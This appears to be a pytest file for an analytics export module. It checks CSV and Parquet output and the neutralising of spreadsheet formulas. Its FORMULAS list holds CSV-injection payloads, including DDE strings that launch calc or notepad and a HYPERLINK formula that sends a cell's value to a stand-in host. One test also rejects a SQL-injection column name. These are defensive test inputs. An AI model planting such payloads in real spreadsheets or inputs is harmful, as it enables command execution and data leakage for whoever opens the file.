"""Exports, read back: every event of the range and nothing else, whole, and no file left behind."""

import csv
import io
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from smart_support.analytics import export as export_module
from smart_support.analytics.export import Format, chosen_columns, export_rows, figures_as_csv
from smart_support.analytics.filters import Filters
from smart_support.analytics.time_range import parse_range
from smart_support.errors import InvalidRequest
from smart_support.events import payload
from smart_support.storage.events.base import EventStore
from tests.support.story import Story, carried_out, record

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
RANGE = parse_range(None, "2026-03-01T12:00:00Z", "2026-03-02")
TRICKY = 'Quote " comma, semicolon; new\nline, Zürich, 日本, =1+1'


@pytest.fixture
def temporary(event_log: EventStore) -> Path:
    """Where exports are written: in the data folder, which nobody else can read."""
    assert event_log.export_folder.stat().st_mode & 0o777 == 0o700
    return event_log.export_folder


async def _export(log: EventStore, format_: Format) -> bytes:
    file, size = await export_rows(log, RANGE, format_)
    with file:
        content = file.read()
    assert len(content) == size
    return content


async def _recorded(log: EventStore) -> Story:
    inside = (
        carried_out("in", NOON, "a1", customer_id="C-7").ask(TRICKY).answer(TRICKY).complete(cost_usd=0.25)
    )
    await record(
        log,
        Story("before", NOON - timedelta(hours=1)).ask(),
        inside,
        Story("after", NOON + timedelta(days=1)).ask(),
    )
    return inside


async def test_csv(event_log: EventStore, temporary: Path) -> None:
    story = await _recorded(event_log)
    rows = list(csv.DictReader(io.StringIO((await _export(event_log, "csv")).decode())))
    assert [row["event_id"] for row in rows] == [told.event_id for told in story.records]
    assert rows[0]["happened_at"] == "2026-03-01T12:00:00.000000Z"
    assert [orjson.loads(row["payload"]) for row in rows] == [payload(told.event) for told in story.records]
    assert os.listdir(temporary) == []


async def test_parquet(event_log: EventStore, tmp_path: Path, temporary: Path) -> None:
    story = await _recorded(event_log)
    path = tmp_path / "read-back.parquet"
    path.write_bytes(await _export(event_log, "parquet"))
    asked = "SELECT thread_id, seq, type, happened_at, cost_usd, payload FROM read_parquet(?) ORDER BY seq"
    rows = duckdb.execute(asked, [str(path)]).fetchall()
    assert [(row[0], row[1], row[2]) for row in rows] == [("in", t.seq, t.event.type) for t in story.records]
    assert rows[0][3] == datetime(2026, 3, 1, 12)
    assert rows[-1][4] == 0.25
    assert [orjson.loads(row[5]) for row in rows] == [payload(told.event) for told in story.records]
    assert os.listdir(temporary) == []


async def test_a_range_without_events_is_a_file_without_rows(event_log: EventStore, tmp_path: Path) -> None:
    (header,) = (await _export(event_log, "csv")).decode().splitlines()
    assert header.startswith("event_id,thread_id,turn_id,first_seq,seq,happened_at,type,")
    path = tmp_path / "read-back.parquet"
    path.write_bytes(await _export(event_log, "parquet"))
    assert duckdb.execute("SELECT count(*) FROM read_parquet(?)", [str(path)]).fetchall() == [(0,)]


async def test_filters_apply_to_an_export_too(event_log: EventStore) -> None:
    stories = [Story("mine", NOON, channel="rest").ask().complete(), Story("other", NOON).ask().complete()]
    await record(event_log, *stories)
    file, _ = await export_rows(event_log, RANGE, "csv", Filters(channel="rest"))
    with file:
        rows = list(csv.DictReader(io.StringIO(file.read().decode())))
    assert [row["thread_id"] for row in rows] == ["mine", "mine"]


# Beside those of our own: the payloads that OWASP's page and public scanners list.
FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
    ),
    *(
        "'=1+1",
        '"=1+1',
        '" =1+1',
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM(A1)",
        "\ttext",
        "\rtext",
        "\x0b=1",
        "\x1f=1",
    ),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?leak="&A1,"Error")', '=IMPORTXML(CONCAT("http://x"))'),
    *(
        "+cmd|'/c calc'!A1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A0",
        "--5",
        "+49 30 1",
        "-",
    ),
]
HARMLESS = ["-5", "+5", "-5.25", "-1e9", "1-1", "a=b", "mail@example.com", " text", "'quoted'", "{}", "%0A=1"]


@pytest.mark.parametrize("column", ["customer_id", "agent"])
async def test_no_cell_of_a_csv_is_a_formula(event_log: EventStore, column: str) -> None:
    """Every text column is treated alike; these two are among those that come from outside."""
    texts = [*FORMULAS, *HARMLESS]
    for number, text in enumerate(texts):
        if column == "customer_id":
            await record(event_log, Story(f"-t{number}", NOON, customer_id=text).ask())
        else:
            await record(event_log, Story(f"-t{number}", NOON).answer("yes", agent=text, tokens=1))
    told = (await _export(event_log, "csv")).decode()
    rows = {row["thread_id"]: row for row in csv.DictReader(io.StringIO(told, newline=""))}
    cells = [rows[f"'-t{number}"][column] for number in range(len(texts))]
    assert cells == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
    assert {row["seq"] for row in rows.values()} == {"1"}


_CHARACTERS = st.sampled_from("=+-@＝\t\r\n \"'1.e\u00a0\ufeffa") | st.characters(codec="utf-8")


@given(text=st.text(_CHARACTERS, max_size=12))
def test_a_text_is_changed_only_where_a_spreadsheet_would_run_it(text: str) -> None:
    sql = f"SELECT {export_module.NEUTRALISED.format(name='x')} FROM (SELECT $x::VARCHAR AS x)"
    params = {"x": text, "formula": export_module.FORMULA, "number": export_module.NUMBER}
    (told,) = duckdb.execute(sql, params).fetchone() or ()
    assert told in (text, f"'{text}")
    first = text.strip().strip("\"' \t\r\n\ufeff\u00a0")[:1]
    if text[:1] in ("\t", "\r", "\n") or (first and first in "=@＝"):
        assert told == f"'{text}"
    if not any(one in text for one in "=+-@＝＋－＠\t\r\n"):
        assert told == text


async def test_decisions_have_what_was_requested(event_log: EventStore) -> None:
    await _recorded(event_log)
    columns = ("decided_by", "outcome", "tool", "customer_id", "seconds_to_decide", "approval_id")
    file, _ = await export_rows(event_log, RANGE, "csv", subject="decisions", columns=columns)
    with file:
        (row,) = csv.DictReader(io.StringIO(file.read().decode()))
    assert tuple(row) == columns
    assert (row["outcome"], row["customer_id"], row["approval_id"]) == ("approved", "C-7", "a1")
    assert row["tool"]
    assert float(row["seconds_to_decide"]) >= 0
    whole, _ = await export_rows(event_log, RANGE, "parquet", subject="decisions")
    whole.close()


def test_columns_are_chosen_by_name() -> None:
    assert chosen_columns("figures", "at, conversations,at") == ("at", "conversations")
    for wrong in ("", "event_id; DROP TABLE events", "at"):
        with pytest.raises(InvalidRequest, match="columns"):
            chosen_columns("events", wrong)


def test_figures_are_a_row_for_each_day() -> None:
    bucket = {"at": "2026-03-01T00:00:00Z", "conversations": 2, "latency_ms": {"p50": 1.5, "p95": None}}
    file, size = figures_as_csv([bucket], ["at", "conversations", "latency_p50_ms", "latency_p95_ms"])
    content = file.read()
    assert (len(content), content.decode().splitlines()[1]) == (size, "2026-03-01T00:00:00Z,2,1.5,")
